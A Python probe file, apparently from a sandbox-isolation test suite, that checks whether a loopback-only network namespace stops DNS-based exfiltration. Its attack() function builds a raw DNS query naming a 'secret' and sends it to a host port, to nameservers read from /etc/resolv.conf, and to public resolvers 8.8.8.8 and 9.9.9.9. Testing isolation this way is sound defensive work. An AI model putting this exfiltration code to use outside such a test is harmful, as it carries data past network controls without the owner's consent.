"""Carries a secret out in a DNS query of its own making, to the host, the configured servers and public ones.

layer: a network namespace with nothing but a loopback
stopped: errno ENETUNREACH
stopped runsc: errno EHOSTUNREACH, ENETUNREACH
control: lift network
"""

import socket
from contextlib import suppress
from functools import partial
from pathlib import Path

import arena
import probe

QUERY = b"\x13\x37\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x06secret\x07example\x03com\x00\x00\x10\x00\x01"


def ask(server, port=53):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as resolver:
        resolver.settimeout(2)
        resolver.connect((server, port))
        resolver.send(QUERY)
        return f"{server} answered {resolver.recv(512)!r}"


def attack():
    with suppress(ConnectionRefusedError):
        return ask("127.0.0.1", arena.HOST_DATAGRAM_PORT)
    lines = Path("/etc/resolv.conf").read_text().splitlines()
    servers = [line.split()[1] for line in lines if line.startswith("nameserver ") and "." in line]
    outside = [server for server in servers if not server.startswith("127.")]
    return probe.any_of(partial(ask, server) for server in [*outside, "8.8.8.8", "9.9.9.9"])


main = probe.attempting(attack)
